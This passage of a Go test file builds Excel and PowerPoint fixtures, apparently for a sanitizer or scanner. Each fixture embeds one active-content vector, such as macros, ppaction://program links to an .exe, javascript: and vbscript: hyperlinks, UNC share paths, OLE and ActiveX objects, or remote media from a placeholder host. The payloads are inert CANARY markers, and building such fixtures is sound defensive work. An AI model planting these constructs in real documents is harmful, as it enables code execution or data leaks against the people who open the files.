		"web query":     {book, "connections", "xl/connections.xml", `<connections><connection id="1" name="c" type="4" refreshOnLoad="1"><webPr url="https://CANARY.example/"/></connection></connections>`},
		"query table":   {sheet, "queryTable", "xl/queryTables/queryTable1.xml", `<queryTable name="CANARY" connectionId="1" refreshOnLoad="1"/>`},
		"data mashup":   {book, "customXml", "customXml/item1.xml", `<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">CANARY</DataMashup>`},
		"data model":    {book, "http://schemas.microsoft.com/office/2011/relationships/powerPivotData", "xl/model/item.data", "CANARY"},
		"custom UI":     {"", msRels + "ui/extensibility", "customUI/ui.xml", `<customUI onLoad="CANARY"/>`},
		"XML maps":      {book, "xmlMaps", "xl/xmlMaps.xml", `<MapInfo><Schema ID="s" SchemaRef="https://CANARY.example/x.xsd"/><Map ID="1" Name="m"><DataBinding ConnectionID="1" FileBinding="true"/></Map></MapInfo>`},
		"toolbars":      {book, "http://schemas.microsoft.com/office/2006/relationships/attachedToolbars", "xl/attachedToolbars.bin", "CANARY"},
		"printer":       {sheet, "printerSettings", "xl/printerSettings/printerSettings1.bin", "CANARY"},
		"volatile data": {book, "volatileDependencies", "xl/volatileDependencies.xml", `<volTypes><volType type="realTimeData"><main first="CANARY.rtd"><tp><v>1</v><stp>CANARY</stp><tr r="A1" s="1"/></tp></main></volType></volTypes>`},
	} {
		m.add(what, func(p *pkg) {
			mime := "application/xml"
			if strings.HasSuffix(part[2], ".bin") || strings.HasSuffix(part[2], ".data") {
				mime = blob
			}
			p.add(part[0], part[1], part[2], mime, part[3])
		})
	}
	m.add("cell link, file", func(p *pkg) { p.sub(relsOf(sheet), "https://www.example.org/page", "file:///CANARY") })
	m.add("OLE object on a sheet", func(p *pkg) {
		id := p.add(sheet, "oleObject", "xl/embeddings/oleObject1.bin", office+"oleObject", cfbHead+"CANARY")
		p.sub(sheet, "</worksheet>", `<oleObjects><oleObject progId="Package" shapeId="1025" r:id="`+id+`" autoLoad="1"/></oleObjects></worksheet>`)
	})
	m.add("ActiveX control on a sheet", func(p *pkg) {
		id := p.add(sheet, "control", "xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="CANARY"/>`)
		p.sub(sheet, "</worksheet>", `<controls><control shapeId="1026" r:id="`+id+`" name="CANARY"/></controls></worksheet>`)
	})
	m.add("macro of a shape", func(p *pkg) {
		id := p.add(sheet, "drawing", "xl/drawings/drawing1.xml", office+"drawing+xml", `<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><xdr:absoluteAnchor><xdr:sp macro="[0]!CANARY" textlink=""><xdr:nvSpPr/></xdr:sp></xdr:absoluteAnchor></xdr:wsDr>`)
		p.sub(sheet, "</worksheet>", `<drawing r:id="`+id+`"/></worksheet>`)
	})
	for what, kind := range map[string][2]string{
		"values":   {`ax:persistence="persistPropertyBag"><ax:ocxPr ax:name="Value" ax:value="1"/><ax:ocxPr ax:name="GroupName" ax:value="CANARY"/><ax:ocxPr ax:name="Accelerator" ax:value="CANARY"/>`, ""},
		"a stream": {`ax:persistence="persistStreamInit" r:id="rIdBin">`, checkBoxStream + "CANARY"},
	} {
		m.add("check box that is a control, with "+what, func(p *pkg) {
			id := p.add(sheet, "control", "xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" `+
				`xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" `+kind[0]+`</ax:ocx>`)
			if kind[1] != "" {
				p.add("xl/activeX/activeX1.xml", msRels+"activeXControlBinary", "xl/activeX/activeX1.bin", "application/vnd.ms-office.activeX", kind[1])
			}
			drawing := p.add(sheet, "vmlDrawing", "xl/drawings/vmlDrawing1.vml", office+"vmlDrawing", `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" `+
				`xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="Box" o:spid="_x0000_s1025"><x:ClientData ObjectType="Pict"><x:Anchor>1, 2, 3, 4, 5, 6, 7, 8</x:Anchor><x:FmlaMacro>CANARY</x:FmlaMacro>`+
				`<x:FmlaPict>CANARY</x:FmlaPict></x:ClientData></v:shape></xml>`)
			p.sub(sheet, "</worksheet>", `<legacyDrawing r:id="`+drawing+`"/><controls><control shapeId="1025" r:id="`+id+`" name="Box"/></controls></worksheet>`)
		})
	}
	m.add("macro of a form control", func(p *pkg) {
		id := p.add(sheet, "vmlDrawing", "xl/drawings/vmlDrawing1.vml", office+"vmlDrawing", `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!CANARY</x:FmlaMacro></x:ClientData></v:shape></xml>`)
		p.sub(sheet, "</worksheet>", `<legacyDrawing r:id="`+id+`"/></worksheet>`)
		p.add(sheet, "ctrlProp", "xl/ctrlProps/ctrlProp1.xml", "application/vnd.ms-excel.controlproperties+xml", `<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Button" fmlaMacro="CANARY"/>`)
	})
	m.add("external pivot cache", func(p *pkg) {
		p.add(book, "pivotCacheDefinition", "xl/pivotCache/pivotCacheDefinition1.xml", office+"spreadsheetml.pivotCacheDefinition+xml", `<pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource ref="A1" sheet="x" r:id="rIdX2"/></cacheSource></pivotCacheDefinition>`)
		p.rel("xl/pivotCache/pivotCacheDefinition1.xml", "externalLinkPath", "!file:///CANARY.xlsx")
	})
	m.none("duplicate entries", func(p *pkg) { p.put("XL/Workbook.xml", "<a>CANARY</a>") })
	return m.rows
}

func powerPointRows(tb testing.TB) []row {
	tb.Helper()
	m := &maker{tb: tb, kind: "pptx", shown: sentences}
	click := `<p:cNvPr id="41" name="">`
	action := func(attrs, target string) change {
		return func(p *pkg) {
			id := ""
			if target != "" {
				id = p.rel(slide, "hyperlink", target)
			}
			p.sub(slide, click, click+`<a:hlinkClick r:id="`+id+`" `+attrs+`/>`)
		}
	}
	m.as("pptm", "VBA project", func(p *pkg) {
		p.sub("[Content_Types].xml", office+"presentationml.presentation.main+xml", macroSlide)
		p.add(deck, msRels+"vbaProject", "ppt/vbaProject.bin", vba, cfbHead+"CANARY")
	})
	m.add("runs a program", action(`action="ppaction://program"`, "!CANARY.exe"))
	m.add("runs a macro", action(`action="ppaction://macro?name=CANARY"`, ""))
	m.add("runs a macro, mixed case and entity", action(`action="PPaction&#58;//Macro?name=CANARY"`, ""))
	m.add("acts on an OLE object", action(`action="ppaction://ole?verb=CANARY"`, ""))
	m.add("opens a file", action(`action="ppaction://hlinkfile"`, "!file:///CANARY.hta"))
	m.add("opens a presentation", action(`action="ppaction://hlinkpres?slideindex=1"`, "!CANARY.pptx"))
	m.add("link, javascript", action("", "!javascript:CANARY"))
	m.add("link, UNC", action("", `!\\CANARY\share`))
	m.add("on hover", func(p *pkg) {
		p.sub(slide, click, click+`<a:hlinkHover r:id="`+p.rel(slide, "hyperlink", "!CANARY.exe")+`" action="ppaction://program"/>`)
	})
	m.add("run link on hover, other prefix", func(p *pkg) {
		p.sub(slide, `<a:rPr b="0" lang="en-US" sz="1800" spc="-1" strike="noStrike">`, `<a:rPr><z:hlinkMouseOver xmlns:z="http://schemas.openxmlformats.org/drawingml/2006/main" r:id="`+p.rel(slide, "hyperlink", "!vbscript:CANARY")+`" action="ppaction://program"/>`)
	})
	m.add("sound of a link from afar", func(p *pkg) {
		p.sub(slide, click, click+`<a:hlinkClick r:id=""><a:snd r:embed="`+p.rel(slide, "audio", "!file:///CANARY.wav")+`" name="x"/></a:hlinkClick>`)
	})
	m.add("movie from afar", func(p *pkg) {
		p.sub(slide, `<p:cNvSpPr txBox="1"/><p:nvPr/>`, `<p:cNvSpPr txBox="1"/><p:nvPr><a:videoFile r:link="`+p.rel(slide, "video", "!https://CANARY.example/v.mp4")+`"/></p:nvPr>`)
	})
	m.add("media link of 2010", func(p *pkg) {
		p.sub(slide, `<p:cNvSpPr txBox="1"/><p:nvPr/>`, `<p:cNvSpPr txBox="1"/><p:nvPr><p:extLst><p:ext uri="{DAA4B4D4-6D71-4841-9C94-3DE7FCFB9230}"><p14:media r:link="`+p.rel(slide, "http://schemas.microsoft.com/office/2007/relationships/media", "!https://CANARY.example/v.mp4")+`"/></p:ext></p:extLst></p:nvPr>`)
	})
	m.add("picture from afar", func(p *pkg) {
		p.sub(slide, "</p:spTree>", `<p:pic><p:nvPicPr><p:cNvPr id="50" name="x"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="`+p.rel(slide, "image", "!https://CANARY.example/a.png")+`"/></p:blipFill><p:spPr/></p:pic></p:spTree>`)
	})
	m.add("background from afar", func(p *pkg) {
		p.sub(slide, "<p:cSld>", `<p:cSld><p:bg><p:bgPr><a:blipFill><a:blip r:embed="`+p.rel(slide, "image", "!https://CANARY.example/a.png")+`"/></a:blipFill></p:bgPr></p:bg>`)
	})
	graphic := func(inner string) string {
		return `<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="60" name="o"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">` + inner + `</a:graphicData></a:graphic></p:graphicFrame></p:spTree>`
	}
	m.add("OLE object", func(p *pkg) {
		id := p.add(slide, "oleObject", "ppt/embeddings/oleObject1.bin", office+"oleObject", cfbHead+"CANARY")
		p.sub(slide, "</p:spTree>", graphic(`<p:oleObj name="CANARY" progId="Package" r:id="`+id+`"><p:embed/></p:oleObj>`))
	})
	m.add("OLE link", func(p *pkg) {
		id := p.rel(slide, "oleObject", "!https://CANARY.example/x!")
		p.sub(slide, "</p:spTree>", graphic(`<mc:AlternateContent><mc:Choice Requires="v"><p:oleObj name="x" progId="htmlfile" r:id="`+id+`"><p:link updateAutomatic="1"/></p:oleObj></mc:Choice><mc:Fallback><p:oleObj progId="htmlfile" r:id="`+id+`"><p:link/></p:oleObj></mc:Fallback></mc:AlternateContent>`))
	})
	m.add("ActiveX control", func(p *pkg) {
		id := p.add(slide, "control", "ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="CANARY"/>`)
		p.sub(slide, "</p:cSld>", `<p:controls><p:control name="CANARY" r:id="`+id+`"/></p:controls></p:cSld>`)
	})
	m.add("animation command", func(p *pkg) {
		p.sub(slide, "</p:sld>", `<p:timing><p:tnLst><p:par><p:cTn id="1"><p:childTnLst><p:cmd type="verb" cmd="CANARY"><p:cBhvr><p:cTn id="2"/><p:tgtEl><p:spTgt spid="41"/></p:tgtEl></p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing></p:sld>`)
	})
	m.add("link in the master", func(p *pkg) {
		const master = "ppt/slideMasters/slideMaster1.xml"
		p.sub(master, "<p:nvPr/>", `<p:nvPr/><x:hlinkClick xmlns:x="http://schemas.openxmlformats.org/drawingml/2006/main" r:id="`+p.rel(master, "hyperlink", "!file:///CANARY")+`"/>`)
	})
	m.add("HTML publication", func(p *pkg) {
		p.sub("ppt/presProps.xml", "</p:presentationPr>", `<p:htmlPubPr xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="`+p.rel("ppt/presProps.xml", "htmlPubSaveAs", "!file:///CANARY.htm")+`"/></p:presentationPr>`)
	})
	m.add("slide from afar", func(p *pkg) { p.rel(slide, "slideUpdateUrl", "!https://CANARY.example/lib") })
	m.as("ppsx", "show, runs a program", func(p *pkg) {
		p.sub("[Content_Types].xml", office+"presentationml.presentation.main+xml", office+"presentationml.slideshow.main+xml")
		action(`action="ppaction://program"`, "!CANARY.exe")(p)
	})
	return m.rows
}

// presentation is a picture of an object for programs that do not have its own, and what is behind it.
func presentation(picture, rest string) []byte {
	head := slices.Concat(le32(0xFFFFFFFF, 3, 4, 1, 0xFFFFFFFF, 2, 0, 0, 0), le32(len(picture)))
	return slices.Concat(head, []byte(picture), []byte(rest))
}

// checkBoxStream is a check box of Microsoft Forms with nothing but its size and a font.
const checkBoxStream = "\x40\x1D\xD2\x8B\x42\xEC\xCE\x11\x9E\x0D\x00\xAA\x00\x60\x02\xF3" +
	"\x00\x02\x10\x00\x00\x01\x00\x80\x00\x00\x00\x00\x64\x00\x00\x00\x64\x00\x00\x00" +
	"\x00\x02\x08\x00\x04\x00\x00\x00\xC8\x00\x00\x00"
